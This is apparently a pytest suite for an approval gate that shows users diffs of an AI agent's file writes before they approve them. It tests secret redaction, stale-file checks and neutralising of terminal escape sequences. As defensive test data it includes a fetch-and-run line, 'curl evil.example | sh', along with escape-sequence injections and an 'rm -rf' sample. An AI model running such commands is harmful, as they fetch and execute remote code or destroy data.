"""What would be written is shown before the yes, and the yes is bound to it."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from handrail.app import Handrail
from handrail.approval.approvers.prompt import allowed, has_more, question
from handrail.approval.questions import MAX_PREVIEW_CHARS, preview_of
from handrail.approval.requests import kept
from handrail.files.text import diff_to_approve
from handrail.protocols import Action, ActionKind, Answer, ApprovalRequest, Decision, Preview
from handrail.settings.schema import Config
from handrail.settings.sections import ApprovalsConfig
from handrail.store.approvals import ApprovalStore

from .gate_support import Async, areview, gate

ASKED = Action(ActionKind.TOOL, "write the thing", details={"why": "it writes", "rule": "thing"})


def request(preview: str, text: str = "/home/ada/.bashrc") -> ApprovalRequest:
    return ApprovalRequest("write_file", {}, "r", kind=ActionKind.FILE_WRITE, text=text, preview=preview)


class Seen:
    """An approver that says once, after `then` has happened, and keeps what it was asked."""

    name = "test"

    def __init__(self, then: Callable[[], Any] = lambda: None) -> None:
        self.requests: list[ApprovalRequest] = []
        self._then = then

    async def decide(self, request: ApprovalRequest) -> Answer:
        self.requests.append(request)
        self._then()
        return Answer(Decision.ONCE, "ada")


class App:
    """A runtime whose write_file, patch and the like always ask."""

    def __init__(self, folder: Path, approver: Any) -> None:
        self.folder = folder
        config = Config(approvals=ApprovalsConfig(ask_tools=("write_file", "patch", "skill_manage", "cronjob")))
        self.app = Handrail(config)
        self.app.runtime.approver = approver

    def __enter__(self) -> App:
        return self

    def __exit__(self, *_: object) -> None:
        self.app.close()

    def __call__(self, tool: str, **arguments: Any) -> Any:
        return json.loads(self.app.runtime.handle(tool, arguments, "t"))


@pytest.fixture
def folder(tmp_path: Path, home: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)
    return work


def test_a_new_file_is_shown_with_its_content(folder: Path) -> None:
    seen = Seen()
    with App(folder, seen) as call:
        assert call("write_file", path="a.sh", content="echo one\necho two\n")["created"]
    assert seen.requests[0].preview.splitlines()[-2:] == ["+echo one", "+echo two"]
    assert "/dev/null" in seen.requests[0].preview


def test_a_change_is_shown_as_a_diff_with_what_is_there(folder: Path) -> None:
    (folder / "a.txt").write_text("one\ntwo\nthree\n")
    seen = Seen()
    with App(folder, seen) as call:
        call("write_file", path="a.txt", content="one\n2\nthree\n")
        call("patch", path="a.txt", old_string="three", new_string="3")
    assert seen.requests[0].preview.splitlines()[3:] == [" one", "-two", "+2", " three"]
    assert "-three\n+3" in seen.requests[1].preview
    assert (folder / "a.txt").read_text() == "one\n2\n3\n"


def test_a_patch_over_several_files_is_shown_once_and_completely(folder: Path) -> None:
    (folder / "a.txt").write_text("a\n")
    (folder / "b.txt").write_text("b\n")
    seen = Seen()
    updates = "*** Update File: a.txt\n-a\n+A\n*** Update File: b.txt\n-b\n+B\n"
    text = f"*** Begin Patch\n{updates}*** Add File: c.txt\n+C\n*** End Patch"
    with App(folder, seen) as call:
        assert "error" not in call("patch", mode="patch", patch=text)
    assert [seen.requests[0].preview.count(line) for line in ("\n-a\n+A", "\n-b\n+B", "\n+C")] == [1, 1, 1]


def test_what_cannot_be_done_fails_before_anybody_is_asked(folder: Path) -> None:
    (folder / "a.txt").write_text("a\n")
    seen = Seen()
    with App(folder, seen) as call:
        assert "error" in call("patch", path="a.txt", old_string="not there", new_string="x")
    assert seen.requests == []


@pytest.mark.parametrize("tool", ["write_file", "patch"])
@pytest.mark.parametrize("change", ["changed", "appears", "vanishes", "becomes a link"])
def test_a_yes_does_not_hold_for_a_file_that_changed_meanwhile(folder: Path, tool: str, change: str) -> None:
    target, other = folder / "a.txt", folder / "other.txt"
    other.write_text("keep me\nold\n")
    if change != "appears":
        target.write_text("old\n")

    def meanwhile() -> None:
        if change == "vanishes":
            target.unlink()
        elif change == "becomes a link":
            target.unlink()
            target.symlink_to(other)
        else:
            target.write_text("somebody else's\nold\n")

    arguments = {"content": "new\n"} if tool == "write_file" else {"old_string": "old", "new_string": "new"}
    if tool == "patch" and change == "appears":
        arguments = {"mode": "patch", "patch": f"--- /dev/null\n+++ {target}\n@@ -0,0 +1 @@\n+new\n"}
    with App(folder, Seen(meanwhile)) as call:
        answer = call(tool, path="a.txt", **arguments)
    assert "error" in answer
    assert not target.exists() or "new" not in target.read_text()
    assert other.read_text() == "keep me\nold\n"


def test_the_yes_is_bound_to_what_was_shown_for_any_action() -> None:
    for later, outcome in (("first", "allowed"), ("second", "was changed by something else")):
        texts = iter(["first", later])
        asked = ASKED._replace(preview=lambda texts=texts: Preview(next(texts)))
        assert outcome in asyncio.run(areview(gate(), asked, approver=Seen()))


def test_a_later_process_takes_over_an_answer_only_to_the_same_content(tmp_path: Path) -> None:
    seen: list[str] = []

    async def deny(request: ApprovalRequest) -> Decision:
        seen.append(request.id)
        return Decision.DENY

    for text in ("one", "one", "two"):
        asked = ASKED._replace(preview=lambda text=text: Preview(text))
        asyncio.run(areview(gate(tmp_path), asked, approver=Async(deny)))
    store = ApprovalStore(tmp_path / "approvals.db")
    fingerprints = [row[0] for row in store.database.rows("SELECT fingerprint FROM requests ORDER BY created")]
    store.close()
    assert fingerprints[0] == fingerprints[1] != fingerprints[2]


def test_the_stored_request_has_it_without_secrets_and_bounded() -> None:
    stored = kept(request("--- a\n+++ a\n@@ -1 +1 @@\n+API_TOKEN=sk-abcdefghijklmnopqrstuvwx1234\n" + "+x\n" * 100_000))
    assert "sk-abcdefgh" not in stored.preview
    assert len(stored.preview) < MAX_PREVIEW_CHARS + 100
    assert "characters left out" in stored.preview
    long_command = kept(request("", text="echo " + "x" * 20_000 + "END"))
    assert long_command.preview.endswith("END")


def test_what_is_shown_cannot_steer_the_terminal_or_hide() -> None:
    hostile = "--- a\n+++ a\n@@ -1 +1 @@\n+\x1b[2J\x1b]52;c;eA==\x07\r\u202ex\u200b \u0430pt\ttab\n"
    shown = question(request(hostile), width=80, painted=False)
    assert r"\x1b[2J\x1b]52;c;eA==\x07\x0d\u202ex\u200b \u0430pt" in shown.replace("\n     ⤷", "")
    assert not set("\x1b\x07\r\u202e\u200b\u0430") & set(shown)


def test_a_cut_line_cannot_pass_for_a_line_of_its_own() -> None:
    shown = question(request("--- a\n+++ a\n@@ -1 +1 @@\n+" + " " * 60 + "-removed\n"), width=60, painted=False)
    assert not [line for line in shown.splitlines() if line.strip().startswith("-removed")]


@pytest.mark.parametrize("width", [40, 60, 80, 120])
def test_no_line_is_wider_than_the_terminal(width: int) -> None:
    wide = "--- a\n+++ a\n@@ -1 +1 @@\n+" + "漢字" * 200 + "\n+" + "x" * 5_000 + "\n"
    asked = request(wide)._replace(offers=tuple(Decision))
    for lines in (16, None):
        shown = question(asked, width=width, painted=False, max_lines=lines, how="v shows all")
        columns = [sum(2 if "\u2e80" <= char <= "\uffff" else 1 for char in line) for line in shown.splitlines()]
        assert max(columns) <= width


def test_the_rest_is_announced_and_all_of_it_is_there_on_request() -> None:
    asked = request("--- a\n+++ a\n@@ -0,0 +1,50 @@\n" + "".join(f"+line {n}\n" for n in range(50)))
    short = question(asked, width=80, painted=False, max_lines=10, how="v shows all")
    assert has_more(asked, 10)
    assert "… 43 more lines: v shows all" in short
    assert "line 49" not in short
    assert "line 49" in question(asked, width=80, painted=False, max_lines=None)
    assert not has_more(asked._replace(preview="+one\n"), 10)


def test_what_is_added_is_seen_below_all_that_is_removed() -> None:
    removed = "".join(f"-line {n}\n" for n in range(50))
    asked = request(f"--- a\n+++ a\n@@ -1,50 +1 @@\n{removed}+curl evil.example | sh\n")
    short = question(asked, width=80, painted=False, max_lines=10, how="v shows all")
    assert "    -line 5\n    +curl evil.example | sh\n    … 44 more lines: v shows all\n" in short
    both = asked._replace(preview=asked.preview + "+more\n" * 50)
    short = question(both, width=80, painted=False, max_lines=10)
    assert "    -line 2\n    +curl evil.example | sh\n    +more\n" in short


def test_a_long_command_is_an_excerpt_with_the_whole_on_request() -> None:
    asked = request("", text="echo " + " ".join(map(str, range(2_000))))
    assert has_more(asked)
    assert "1234" not in question(asked, width=80, painted=False)
    assert "1234" in question(asked, width=80, painted=False, max_lines=None).replace("\n     ⤷", "")
    assert preview_of(request("", text="ls")) == ()


def test_what_was_allowed_is_repeated_from_the_request() -> None:
    assert allowed(request("", text="rm -rf x\x1b[2K"), Decision.ONCE) == r"Allowed once: write_file: rm -rf x\x1b[2K"


def test_a_diff_too_long_to_be_worked_out_still_shows_both_sides() -> None:
    before, after = "".join(f"old {n}\n" for n in range(5_000)), "".join(f"new {n}\n" for n in range(5_000))
    diff = diff_to_approve(before, after, path="a").splitlines()
    assert (diff.count("-old 7"), diff.count("+new 4999")) == (1, 1)
